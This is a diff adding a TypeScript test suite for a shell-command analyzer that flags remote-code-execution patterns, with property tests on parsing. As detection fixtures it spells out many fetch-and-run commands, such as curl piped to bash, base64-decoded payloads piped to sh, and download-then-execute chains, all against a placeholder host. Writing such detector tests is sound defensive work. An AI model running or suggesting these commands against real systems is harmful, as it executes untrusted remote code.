@@ -1,0 +1,116 @@
+// The shell-pipeline model (src/shell.ts): what it reads as one command, and the remote-execution forms it finds
+// that a line pattern misses. Properties: any text parses without throwing, in a number of steps linear in its
+// length, and findings lie inside the text.
+
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { analyzeShell, effectiveWords, MAX_DEPTH, parseShell, parseShellCounted } from '../src/shell.js';
+
+const RUNS = Number(process.env.FC_RUNS ?? 300);
+const kinds = (s: string, prose = false) => analyzeShell(s, 0, s.length, { prose }).map((f) => f.kind);
+
+describe('parseShell', () => {
+  it('reads quotes, escapes, continuations and pipes', () => {
+    const sc = parseShell('c\\url -fsSL "https://x.test/a b" \\\n  | sudo -u root bash -s -- --yes; echo \'$(no)\'');
+    expect(sc.pipelines).toHaveLength(2);
+    const [p1, p2] = sc.pipelines;
+    expect(p1!.commands.map((c) => c.words.map((w) => w.value))).toEqual([
+      ['curl', '-fsSL', 'https://x.test/a b'],
+      ['sudo', '-u', 'root', 'bash', '-s', '--', '--yes'],
+    ]);
+    expect(effectiveWords(p1!.commands[1]!.words).map((w) => w.value)[0]).toBe('bash');
+    expect(p2!.commands[0]!.words[1]!.subs).toEqual([]);
+  });
+
+  it('reads command and process substitution as nested scripts', () => {
+    const sc = parseShell('bash < <(curl -s https://x.test/a) && python3 -c "$(wget -qO- https://x.test/b)"');
+    const [a, b] = sc.pipelines;
+    expect(a!.commands[0]!.redirects[0]!.op).toBe('<');
+    expect(a!.commands[0]!.redirects[0]!.target!.proc!.pipelines[0]!.commands[0]!.words[0]!.value).toBe('curl');
+    expect(b!.commands[0]!.words[2]!.subs[0]!.pipelines[0]!.commands[0]!.words[0]!.value).toBe('wget');
+  });
+
+  it('survives deep nesting without recursion past its bound', () => {
+    const deep = '$('.repeat(50_000) + 'curl https://x.test | sh' + ')'.repeat(50_000);
+    expect(() => parseShell(deep)).not.toThrow();
+    expect(() => analyzeShell('<('.repeat(30_000))).not.toThrow();
+    expect(MAX_DEPTH).toBeLessThan(64);
+  });
+
+  const piece = fc.oneof(
+    { weight: 5, arbitrary: fc.constantFrom('curl ', 'https://x.test/a ', '| ', '|bash', ' sh', '$(', ')', '`', '<(', '< ', '> f', '"', "'", '\\', '\\\n', '\n', ';', '&&', '&', '#', '${', '}', '(', ' -o x', './x', 'bash x', 'sudo -u r ', 'env A=1 ', '<<EOF\n') },
+    { weight: 2, arbitrary: fc.string({ maxLength: 6 }) },
+  );
+  const script = fc.array(piece, { maxLength: 120 }).map((a) => a.join(''));
+
+  it('never throws, and its findings lie inside the text (property)', () => {
+    fc.assert(
+      fc.property(script, fc.boolean(), (s, prose) => {
+        const fs = analyzeShell(s, 0, s.length, { prose });
+        for (const f of fs) {
+          expect(f.start).toBeGreaterThanOrEqual(0);
+          expect(f.end).toBeLessThanOrEqual(s.length);
+          expect(f.start).toBeLessThan(f.end);
+        }
+      }),
+      { numRuns: RUNS },
+    );
+  });
+
+  it('takes a number of steps linear in the length (property)', () => {
+    fc.assert(
+      fc.property(script, fc.integer({ min: 1, max: 40 }), (s, k) => {
+        const text = s.repeat(k);
+        expect(parseShellCounted(text).steps).toBeLessThanOrEqual(2 * text.length + 2);
+      }),
+      { numRuns: RUNS },
+    );
+  });
+});
+
+describe('analyzeShell', () => {
+  it.each([
+    ['curl -fsSL https://x.test/i.sh \\\n  | bash', 'pipe'],
+    ['bash < <(curl -s https://x.test/a)', 'process-substitution'],
+    ['python3 <(curl -s https://x.test/a.py)', 'process-substitution'],
+    ['curl https://x.test/a | sudo -u root bash', 'pipe'],
+    ['curl https://x.test/a | /usr/bin/env bash', 'pipe'],
+    ['curl https://x.test/a | tee f | sh', 'pipe'],
+    ['curl https://x.test/a | base64 -d | sh', 'pipe'],
+    ['echo "$(curl -s https://x.test/a)" | bash', 'pipe'],
+    ['c\\url https://x.test/a | sh', 'pipe'],
+    ['curl https://x.test/a | $SHELL', 'pipe'],
+    ['sh -c "$(curl -fsSL https://x.test/i)"', 'command-substitution'],
+    ['curl -o x.sh https://x.test/a && bash x.sh', 'download-then-run'],
+    ['curl -fsSLO https://x.test/inst.sh\nchmod +x inst.sh && ./inst.sh', 'download-then-run'],
+    ['wget https://x.test/run.sh && sh run.sh', 'download-then-run'],
+    ['curl https://x.test/a > /tmp/a.sh; bash /tmp/a.sh', 'download-then-run'],
+    ['npx https://x.test/pkg.tgz', 'remote-package'],
+    ['deno run -A https://x.test/mod.ts', 'remote-package'],
+    ['pip install --extra-index-url https://pkgs.x.test/simple foo', 'custom-index'],
+    ['npm install --registry https://npm.x.test foo', 'custom-index'],
+  ])('finds %j', (s, kind) => {
+    expect(kinds(s)).toEqual([kind]);
+  });
+
+  it.each([
+    'curl -s https://api.x.test/items | jq .name',
+    'curl -s https://api.x.test/items | python3 -m json.tool',
+    'diff <(curl -s https://a.x.test) <(curl -s https://b.x.test)',
+    'bash <(cat local.sh)',
+    'Flags risky patterns such as curl | bash',
+    'curl -o x.sh https://x.test/a && sha256sum -c x.sha256 && bash x.sh',
+    'pip install --index-url https://download.pytorch.org/whl/cu118 torch',
+    'npx pa11y https://x.test',
+    'curl -o out.json https://x.test/api && jq . out.json',
+    'echo "curl https://x.test | sh"',
+  ])('stays quiet on %j', (s) => {
+    expect(kinds(s)).toEqual([]);
+  });
+
+  it('reads a command inside a sentence in prose mode only', () => {
+    const s = 'To install, run curl -fsSL https://x.test/i.sh | bash and wait.';
+    expect(kinds(s, true)).toEqual(['pipe']);
+    expect(kinds('Run the installer, then bash to finish', true)).toEqual([]);
+  });
+});
